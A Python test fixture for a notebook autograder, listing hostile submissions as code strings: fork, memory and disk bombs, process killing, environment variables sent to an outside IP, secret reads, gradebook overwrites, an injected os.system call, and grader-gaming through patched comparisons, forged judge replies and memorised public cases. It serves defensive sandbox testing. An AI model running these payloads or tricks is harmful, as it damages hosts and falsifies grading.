"""Submissions that mean harm, or are broken: what each does, and the points that it deserves.

In a row two exercises are answered, `huber_value` (2 points) and `mad_scale` (2 points); what the
row does stands in the cell of the first, or in a cell of its own, and the second is right. So 2
points are deserved by most, 4 by those that only look odd, 0 where a submission harms itself.
"""
import json
import os
from collections.abc import Callable
from dataclasses import dataclass

from lossedu.exercises import EXERCISES, draw
from lossedu.exercises.running import run

from .small import UNIT, lay_in, written

NAMES = ("huber_value", "mad_scale")
RIGHT = EXERCISES["huber_value"].solution
WRONG = "def huber_value(pred, target, delta=1.0):\n    return np.abs(pred - target)\n"


@dataclass(frozen=True)
class Row:
    """One submission; `hand_in(classroom)` puts it there, where it is more than a notebook."""

    name: str
    deserved: int
    answer: str = RIGHT         # the cell of huber_value
    before: tuple = ()
    after: tuple = ()
    answers: dict | None = None     # of other exercises
    names: tuple = NAMES
    hand_in: Callable | None = None

    def lay_in(self, classroom) -> None:
        """Hand it in as eve's."""
        if self.hand_in:
            self.hand_in(classroom)
            return
        answers = {"huber_value": self.answer, **(self.answers or {})}
        data = written(self.names, answers, self.before, self.after)
        lay_in(classroom, json.loads(json.dumps(data).replace("CLASS", str(classroom.path))))


def inside(body: str) -> str:
    """An answer that does this when it is called, and is wrong."""
    lines = "".join(f"    {line}\n" for line in body.strip().split("\n"))
    return f"def huber_value(pred, target, delta=1.0):\n{lines}    return np.abs(pred - target)\n"


def tried(body: str) -> str:
    """The same, whatever fails in it."""
    lines = "".join(f"    {line}\n" for line in body.strip().split("\n"))
    return inside(f"try:\n{lines}except BaseException:\n    pass")


# ------------------------------------------------------------------ time, memory, processes
STUBBORN = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
USE = (
    Row("an endless loop in a cell", 2, "while True: pass\n" + RIGHT),
    Row("an endless loop in a function", 2, inside("while True: pass")),
    Row("a loop that swallows interrupts, in a cell", 2, STUBBORN + "\n" + RIGHT),
    Row("a loop that swallows interrupts, in a function", 2, inside(STUBBORN)),
    Row("a loop in C that lets nothing else run", 2,
        inside("import itertools; sum(itertools.count())")),
    Row("a regular expression that takes for ever", 2,
        inside("import re; re.match('(a+)+$', 'a' * 60 + 'b')")),
    Row("9**9**9 in a cell", 2, "big = 9**9**9\n" + RIGHT),
    Row("a memory bomb in a function", 2,
        inside("kept = []\nwhile True: kept.append(b'a' * 10**7)")),
    Row("a memory bomb in a cell", 2, "kept = []\nwhile True: kept.append(b'a' * 10**7)"),
    Row("memory that a cell keeps", 2,
        "kept = []\nfor size in (10**6, 10**4, 10**2):\n    try:\n"
        "        while True: kept.append(np.empty(size))\n    except MemoryError: pass"),
    Row("memory that a function keeps", 2, inside(
        "kept = globals().setdefault('kept', [])\nfor size in (10**6, 10**4, 10**2):\n    try:\n"
        "        while True: kept.append(np.empty(size))\n    except MemoryError: pass")),
    Row("memory in many processes", 2, inside(
        "import os, time\nfor _ in range(12):\n    if os.fork() == 0:\n"
        "        kept = b'a' * 10**8\n"
        "        time.sleep(60)\ntime.sleep(60)")),
    Row("memory that belongs to no process", 2, tried(
        "import os\nnumber = os.memfd_create('x')\nwhile True: os.write(number, b'a' * 10**7)")),
    Row("memory shared by many and then by none", 2, tried(
        "import mmap\nwhile True:\n    one = mmap.mmap(-1, 10**8); one.write(b'a' * 10**8)\n"
        "    globals().setdefault('kept', []).append(one)")),
    Row("memory in the kernel's own tables", 2, tried(
        "import mmap\nkept = []\nwhile True:\n    kept.append(mmap.mmap(-1, 2**33, flags=34, "
        "prot=1))\n    for at in range(0, 2**33, 2**21): kept[-1][at]")),
    Row("memory in sockets", 2, tried(
        "import socket\nkept = []\nwhile True:\n    kept += socket.socketpair()\n"
        "    kept[-1].setblocking(False)\n    try:\n"
        "        while True: kept[-1].send(b'a' * 65536)\n"
        "    except BlockingIOError: pass")),
    Row("processes that end and are not waited for", 2, tried(
        "import os, time\nfor _ in range(500):\n    try:\n        if os.fork() == 0: os._exit(0)\n"
        "    except OSError: time.sleep(0.01)")),
    Row("a fork bomb", 2, inside("import os\nwhile True:\n    try: os.fork()\n"
                                 "    except OSError: pass")),
    Row("a disk bomb in /tmp", 2, tried(
        "for number in range(99):\n    open(f'/tmp/{number}', 'wb').write(b'a' * 10**7)")),
    Row("a disk bomb in /dev/shm and /dev", 2, tried(
        "for number in range(99):\n    for place in ('/dev/shm', '/dev'):\n"
        "        try: open(f'{place}/{number}', 'wb').write(b'a' * 10**7)\n"
        "        except OSError: pass")),
    Row("hundreds of threads", 2, tried(
        "import threading, time\nfor _ in range(500):\n"
        "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()")),
    Row("threads that keep both processors busy", 2, "import hashlib, threading\n"
        "def busy():\n    while True: hashlib.pbkdf2_hmac('sha1', b'a', b'b', 10**6)\n"
        "for _ in range(12):\n"
        "    threading.Thread(target=busy, daemon=True).start()\n" + WRONG),
    Row("prints 100 million characters", 2, inside("print('a' * 10**8)")),
    Row("a recursion without end", 2, inside("return huber_value(pred, target)")),
)

# ------------------------------------------------------------------ ends, signals, what is left
ENDS = (
    Row("os._exit in a cell", 2, "import os; os._exit(0)"),
    Row("os._exit in a function", 2, inside("import os; os._exit(0)")),
    Row("os._exit in a cell of its own", 4, before=("import os; os._exit(1)",)),
    Row("sys.exit and exit() in cells of their own", 4,
        before=("import sys; sys.exit(3)", "exit()", "raise KeyboardInterrupt")),
    Row("a crash in C", 2, inside("import ctypes; ctypes.string_at(0)")),
    Row("it stops itself", 2, inside("import os, signal; os.kill(os.getpid(), signal.SIGSTOP)")),
    Row("it kills its parent, process 1 and everyone", 2, inside(
        "import os\nfor one in (1, os.getppid(), -1):\n    try: os.kill(one, 9)\n"
        "    except OSError: pass\nos.killpg(0, 9)")),
    Row("a daemon is left behind", 2, inside(
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        time.sleep(600)\n    os._exit(0)")),
    Row("a program is left behind", 2, tried(
        "import subprocess\nsubprocess.Popen(['setsid', 'sleep', '617'])")),
    Row("it ignores signals and ends late", 4, "import atexit, signal, time\n"
        "atexit.register(time.sleep, 600)\nfor one in (1, 2, 3, 15):\n"
        "    signal.signal(one, signal.SIG_IGN)\n" + RIGHT),
    Row("a stubborn thread beside a right answer", 4, "import threading\ndef loop():\n"
        + "".join(f"    {line}\n" for line in STUBBORN.split("\n")) +
        "threading.Thread(target=loop, daemon=True).start()\n" + RIGHT),
    Row("a clock that stands still", 2, "import time\ntime.monotonic = lambda: 0.0\n"
        + inside("while True: pass")),
    Row("it closes all files", 2, inside("import os; os.closerange(0, 256)")),
    Row("it asks for somebody to type", 2, inside("input()")),
)

# ------------------------------------------------------------------ the judge
PATCHED = """
import json, sys, numpy.testing
np.isclose = np.allclose = np.array_equal = lambda *args, **named: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **named: None
"""
OF_JUDGED = """
import sys
for name, module in list(sys.modules.items()):
    if name.startswith('judged.'):
        for what in ('rtol', 'atol', 'RTOL', 'ATOL', 'close', 'same', 'agrees', 'judge'):
            setattr(module, what, 1e9)
"""
FRAMES = """
import gc, sys
frame = sys._getframe()
while frame:
    for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
        wanted = getattr(value, 'reference', None) or isinstance(value, dict) and value.get('want')
        if callable(wanted):
            return wanted(pred, target, delta)
    frame = frame.f_back
for value in gc.get_objects():
    if getattr(value, '__name__', '') == 'huber_value' and value is not huber_value:
        return value(pred, target, delta)
"""
PIPES = """
import json, os
for number in os.listdir('/proc/self/fd'):
    for count in range(1, 40):
        reply = {'id': count, 'outcomes': [{'value': True, 'passed': True}] * 99, 'error': None,
                 'what': 'function'}
        try: os.write(int(number), json.dumps(reply).encode() + b'\\n')
        except OSError: pass
"""
DUMPS = "import json\njson.dumps = lambda *args, **named: {}\n"
JUDGE = (
    Row("patched comparisons of NumPy", 2, PATCHED + WRONG),
    Row("patched json.loads and json.dumps", 2, DUMPS.format("'{}'") + WRONG),
    Row("a patched check", 2, "import lossedu\nlossedu.check = lambda *args, **named: True\n"
        "import builtins\nbuiltins.check = lossedu.check\n" + WRONG),
    Row("a patched IPython", 2, "from IPython.core.interactiveshell import ExecutionResult\n"
        "ExecutionResult.raise_error = lambda self: None\n"
        "get_ipython().showtraceback = lambda *args, **named: None\n" + WRONG),
    Row("an input transformer that empties what follows", 0, WRONG + "get_ipython()."
        "input_transformers_cleanup.append(lambda lines: ['pass\\n'])"),
    Row("atol, compare and judge are changed", 2, OF_JUDGED + WRONG),
    Row("the code of other functions is changed", 2, WRONG + "import gc\nfor one in "
        "gc.get_objects():\n    if getattr(one, '__name__', '') in ('huber_value', 'same'):\n"
        "        one.__code__ = huber_value.__code__\n"),
    Row("it walks frames for what is wanted", 2, inside(FRAMES)),
    Row("it writes to our own pipes", 2, PIPES + WRONG),
    Row("it writes to our own pipes when called", 2, inside(PIPES)),
    Row("replies of the wrong types", 0, "import json\nwas = json.dumps\njson.dumps = lambda data, "
        "**named: was({key: [None, {'value': 3}, 'x'] if key != 'id' else value for key, value in "
        "data.items()})\n" + WRONG),
    Row("replies of nested lists, megabytes of them", 2,
        DUMPS.format("'[' * (6 * 2**20)") + WRONG),
    Row("replies without end", 2, DUMPS.format("'1' * (99 * 2**20)") + WRONG),
    Row("numbers by the million in a reply", 0, "import json\nwas = json.dumps\n"
        "big = {'kind': 'array', 'dtype': 'float64', 'shape': [10**6], 'values': [0] * 10**6}\n"
        "json.dumps = lambda data, **named: was({**data, 'outcomes': [{'value': big}] * 2})\n"
        + WRONG),
)

# ------------------------------------------------------------------ other people's answers
READS = """
import glob, os
found = {}
for place in ('CLASS', '/proc', os.path.expanduser('~'), '/root', '/home'):
    for folder, _, files in os.walk(place):
        for file in files[:50]:
            if 'huber' in file or file in ('.secret', 'gradebook.db', 'environ', 'outliers.ipynb'):
                try: found[os.path.join(folder, file)] = open(os.path.join(folder, file)).read()
                except Exception: pass
if 'def huber_value' in str(found):
    exec(str(found).split('def huber_value')[1])
"""
SEEKS = """
import glob, sys
for place in ('/usr', '/work', '/root', '/opt', '/home', '/tmp', '/course'):
    for found in glob.glob(place + '/**/PACKAGE', recursive=True):
        sys.path.append(found.rpartition('/')[0])
"""
OF_TORCH = """
def huber_value(pred, target, delta=1.0):
    import torch
    from torch.nn.functional import huber_loss
    return huber_loss(torch.tensor(pred), torch.tensor(target), delta=delta,
                      reduction='none').numpy()
"""
OTHERS = (
    Row("it imports our reference", 2, "from lossedu.exercises import EXERCISES\n"
        "huber_value = EXERCISES['huber_value'].reference"),
    Row("a number from our exercises, in a value's sandbox", 2, answers={"faulty_phone":
        "from lossedu.exercises import EXERCISES\n"
        "faulty_phone = EXERCISES['faulty_phone'].reference"},
        names=("huber_value", "faulty_phone")),
    Row("it looks for our package everywhere", 2, SEEKS.replace("PACKAGE", "lossedu") +
        "import sys\nsys.modules.pop('lossedu', None)\nfrom lossedu.losses import huber\n"
        "def huber_value(pred, target, delta=1.0):\n    return huber(pred, target, delta=delta)"),
    Row("PyTorch where NumPy is asked for", 2, OF_TORCH),
    Row("it looks for PyTorch everywhere", 2, SEEKS.replace("PACKAGE", "torch") + OF_TORCH),
    Row("it reads the class, its secret, /proc and homes", 2, READS + WRONG),
    Row("it sends what its environment holds", 2, tried(
        "import os, socket, urllib.request\nurllib.request.urlopen('http://93.184.216.34/?' + "
        "str(os.environ), timeout=1)")),
    Row("it opens sockets", 2, tried(
        "import socket\none = socket.socket(); one.bind(('127.0.0.1', 0)); one.listen()\n"
        "socket.create_connection(('1.1.1.1', 53), timeout=1)")),
    Row("it writes to the gradebook", 2, tried(
        "import sqlite3\nopen('CLASS/gradebook.db', 'wb').write(b'100')\n"
        "sqlite3.connect('CLASS/gradebook.db').execute('update grade set auto_score=100')")),
    Row("it writes into libraries and the judge", 2, tried(
        "import numpy, sys\nopen(numpy.__file__, 'a').write('#')\n"
        "open(sys.modules['judged'].__file__, 'a').write('#')")),
    Row("it makes itself a namespace and mounts", 2, tried(
        "import ctypes\nlibrary = ctypes.CDLL(None)\nlibrary.unshare(0x10020000)\n"
        "library.mount(b'x', b'/tmp', b'tmpfs', 0, b'size=90%')\nlibrary.setuid(0)")),
)

# ------------------------------------------------------------------ values that lie
LIAR = """
class Liar(np.ndarray):
    shape = property(lambda self: (5,))
    def __eq__(self, other): return True
    def __array__(self, *args, **named): return np.zeros(5)
    def __len__(self): return 5
def huber_value(pred, target, delta=1.0):
    return np.zeros(np.shape(pred)).view(Liar)
"""
EQUAL = """
class Meta(type):
    __module__ = property(lambda self: 1 / 0)
    def __instancecheck__(self, one): return True
class Equal(metaclass=Meta):
    __class__ = property(lambda self: np.ndarray)
    def __eq__(self, other): return True
    def __getattr__(self, name): return self
    def __float__(self): return 0.5
def huber_value(pred, target, delta=1.0):
    return Equal()
"""
SECOND = RIGHT + """
right, calls = huber_value, []
def huber_value(pred, target, delta=1.0):
    calls.append(1)
    return right(pred, target, delta) if len(calls) <= %d else np.abs(pred)
"""


def _public():
    """An answer that is right where it has seen the inputs: those of the public cases."""
    cases = draw(EXERCISES["huber_value"])
    outcomes = run(EXERCISES["huber_value"].reference, cases)
    seen = {json.dumps(list(case["inputs"].values())): outcome["value"]
            for case, outcome in zip(cases, outcomes)}
    return ("import json\nfrom judged.exercises.values import pack, unpack\n"
            f"seen = json.loads({json.dumps(json.dumps(seen))})\n"
            "def huber_value(*args, **named):\n"
            "    key = json.dumps([pack(one) for one in (*args, *named.values())])\n"
            "    return unpack(seen[key]) if key in seen else np.zeros(np.shape(args[0]))")


VALUES = (
    Row("an array that lies about its shape", 2, LIAR),
    Row("an object that is equal to everything", 2, EQUAL),
    Row("nan everywhere", 2, inside("return np.full(np.shape(pred), np.nan)")),
    Row("right on the public cases, by heart", 2, _public()),
    Row("right until the public cases are over", 2,
        SECOND % len(draw(EXERCISES["huber_value"]))),
    Row("a giant integer, a deep tuple, a huge array in turn", 2, inside(
        "import itertools\nglobal turns\nturns = globals().get('turns') or itertools.cycle("
        "[10 ** 4000, eval('(' * 80 + ')' * 80), np.zeros(10 ** 7), 'x' * 10 ** 7, {}, print])\n"
        "return next(turns)")),
    Row("a number that is an object of its own", 2, answers={"faulty_phone":
        "class Any(float):\n    def __le__(self, other): return True\n"
        "    __ge__ = __lt__ = __gt__ = __eq__ = __le__\nfaulty_phone = Any(77)"},
        names=("huber_value", "faulty_phone")),
    Row("a giant integer as a number", 2, answers={"faulty_phone": "faulty_phone = 10 ** 5000"},
        names=("huber_value", "faulty_phone")),
    Row("a deep tuple as a number", 2, names=("huber_value", "faulty_phone"), answers={
        "faulty_phone": "faulty_phone = 1\nfor _ in range(5000): faulty_phone = (faulty_phone,)"}),
    Row("formulas that a parser might run", 2, names=("huber_value", "pseudo_huber"), answers={
        "pseudo_huber": "pseudo_huber = {'psi': \"__import__('os').system('touch CLASS/ran')\", "
        "'dpsi/dr': '9**9**9', 'limit of psi': 'd', 'limit of the difference': 'd'}"}),
    Row("formulas that take for ever", 2, names=("huber_value", "pseudo_huber"), answers={
        "pseudo_huber": "pseudo_huber = {'psi': 'sqrt(1/(r + ' * 14 + '1' + '))' * 14, 'dpsi/dr': "
        "'2**-' * 140 + '1', 'limit of psi': 'exp(' * 29 + '100' + ')' * 29, "
        "'limit of the difference': '9**9**9'}"}),
    Row("a program with its fault, untouched", 2, names=("huber_value", "q_values"),
        answers={"q_values": EXERCISES["q_values"].stub}),
    Row("held-out rows that are looked up", 2, names=("huber_value", "fit_counts"), answers={
        "fit_counts": "def fit_counts(x, y, seed):\n    from lossedu.data import load\n"
        "    rows = load('bikeshare')\n    return lambda held: rows.table['count'][:len(held)]"}),
)


# ------------------------------------------------------------------ files
def _file(make):
    """A notebook's place, filled by `make(file)`; the right notebook lies beside, as `.txt`."""
    def laid(classroom):
        file = lay_in(classroom, written(NAMES, {}))
        file.rename(file.with_suffix(".txt"))
        make(file)
    return laid


def _bytes(data):
    return lambda classroom: lay_in(classroom, data)


def _renamed(classroom):
    lay_in(classroom, written(NAMES, {})).rename(
        classroom.path / "submitted/eve" / UNIT / "my -- (final)\n=2<b>.ipynb")


def _without_checks(classroom):
    data = written(NAMES, {})
    data["cells"] = [one for one in data["cells"] if "check" not in str(one["metadata"])]
    lay_in(classroom, data)


def _twice(*answers):
    def laid(classroom):
        data = written(NAMES, {"huber_value": answers[0]})
        data["cells"] += written(NAMES, {"huber_value": answers[1]})["cells"]
        lay_in(classroom, data)
    return laid


def _with_points(classroom):
    data = written(NAMES, {"huber_value": WRONG})
    for cell in data["cells"]:
        if cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {"points": 100, "grade": True, "locked": False}
    lay_in(classroom, data)


def _odd_cells(classroom):
    data = written(NAMES, {})
    data["cells"] += [{"cell_type": "code", "metadata": None, "source": None}, 7, None, [],
                      {"cell_type": "code", "source": {"a": 1}, "metadata": {"nbgrader": 3}},
                      {"cell_type": "code", "source": "x = '\ud800'"},
                      {"cell_type": "code", "source": "\0"}]
    data["cells"][1]["outputs"] = [{"output_type": "stream", "text": "a" * 5_000_000}]
    lay_in(classroom, data)


def _many(classroom):
    lay_in(classroom, written(NAMES, {}, after=(
        "%a\n" * 20_000, "(" * 99_000, "1+" * 49_000 + "1")))


FILES = (
    Row("broken JSON", 0, hand_in=_bytes(b'{"cells": [')),
    Row("JSON, and no notebook", 0, hand_in=_bytes(b'[[[["cells"]]]]')),
    Row("JSON in a hundred thousand brackets", 0, hand_in=_bytes(b"[" * 100_000)),
    Row("no text at all", 0, hand_in=_bytes(bytes(range(256)) * 9)),
    Row("a link to somebody's notebook", 0, hand_in=_file(
        lambda file: file.symlink_to(file.with_suffix(".txt")))),
    Row("a pipe in the place of a notebook", 0, hand_in=_file(os.mkfifo)),
    Row("a device in the place of a notebook", 0, hand_in=_file(
        lambda file: file.symlink_to("/dev/zero"))),
    Row("a folder in the place of a notebook", 0, hand_in=_file(os.mkdir)),
    Row("a notebook of 30 MB", 0, hand_in=_bytes(b'{"cells": []' + b" " * 30 * 2 ** 20 + b"}")),
    Row("a notebook with an odd name", 4, hand_in=_renamed),
    Row("without the cells of checks", 4, hand_in=_without_checks),
    Row("without the cell of an answer", 2, None),
    Row("answered twice, the right one last", 4, hand_in=_twice(WRONG, RIGHT)),
    Row("answered twice, the wrong one last", 2, hand_in=_twice(RIGHT, WRONG)),
    Row("with points of its own", 2, hand_in=_with_points),
    Row("cells that are none, halves of characters", 4, hand_in=_odd_cells),
    Row("cells that take long to read", 4, hand_in=_many),
)

ROWS = (*USE, *ENDS, *JUDGE, *OTHERS, *VALUES, *FILES)
